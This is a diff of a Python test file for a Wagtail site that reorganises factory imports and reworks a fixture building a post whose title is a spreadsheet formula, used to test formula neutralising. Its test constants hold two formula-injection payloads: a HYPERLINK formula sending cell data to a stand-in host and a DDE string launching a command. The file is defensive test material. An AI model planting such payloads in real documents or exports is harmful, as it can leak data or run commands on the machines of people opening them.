@@ -20,9 +20,10 @@ from wagtail.models import Page
 
 from kim_sites.models import Kim
 from kim_sites.spreadsheets import neutralise_formula
-from tests.factories import UserFactory, make_editor, make_kim, make_moderator
-from tests.kinerja_helpers import make_post, submit
-from tests.publication_helpers import add_post, section
+from tests.factories.accounts import UserFactory, make_editor, make_moderator
+from tests.factories.moderation import submit
+from tests.factories.pages import make_post, section
+from tests.factories.registry import make_kim
 
 HYPERLINK = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")'
 SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -168,9 +169,9 @@ def hostile_page(db):
     """A post titled like a formula, locked, in moderation, logged and searched for."""
     kim = make_kim(name="KIM Laporan")
     editor = make_editor(kim)
-    post = make_post(kim, editor, title=HYPERLINK)
+    post = make_post(kim, HYPERLINK, by=editor, live=False)
     submit(post, editor)
-    add_post(kim, HYPERLINK)  # live, for the aging-pages report
+    make_post(kim, HYPERLINK)  # live, for the aging-pages report
     page = Page.objects.get(pk=post.pk)
     page.locked, page.locked_by = True, editor
     page.save()
